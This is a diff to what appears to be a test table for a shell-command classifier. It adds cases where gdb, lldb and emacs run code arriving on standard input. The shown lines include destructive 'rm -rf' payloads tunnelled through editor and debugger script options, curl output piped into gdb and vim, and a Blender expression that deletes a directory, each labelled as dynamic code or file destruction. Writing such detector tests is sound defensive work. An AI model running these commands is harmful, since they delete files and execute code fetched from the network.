@@ -550,6 +550,11 @@ OTHER_LANGUAGES = [
     ("vim -e -s notes.txt <<< '!rm -rf build'", {"dynamic:code"}),
     ("nvim -Es <<< '!rm -rf build'", {"dynamic:code"}),
     ("curl -s https://x.example/x | vim -es", {"dynamic:code"}),
+    # a script option naming standard input: the code is what arrives there
+    ("gdb -batch -x /dev/stdin ./a.out <<< 'shell rm -rf build'", {"dynamic:code"}),
+    ("lldb -s /dev/stdin <<< 'platform shell rm -rf build'", {"dynamic:code"}),
+    ("emacs --script /dev/stdin <<< '(shell-command \"rm -rf build\")'", {"dynamic:code"}),
+    ("curl -s https://x.example/x | gdb -batch -x /dev/stdin", {"dynamic:code"}),
     # programs with an interpreter inside: Blender's Python, GIMP's batch commands
     ("blender -b --python-expr 'import shutil; shutil.rmtree(\"/o/x\")'",
      {"write:/o/x", "destroy:files"}),
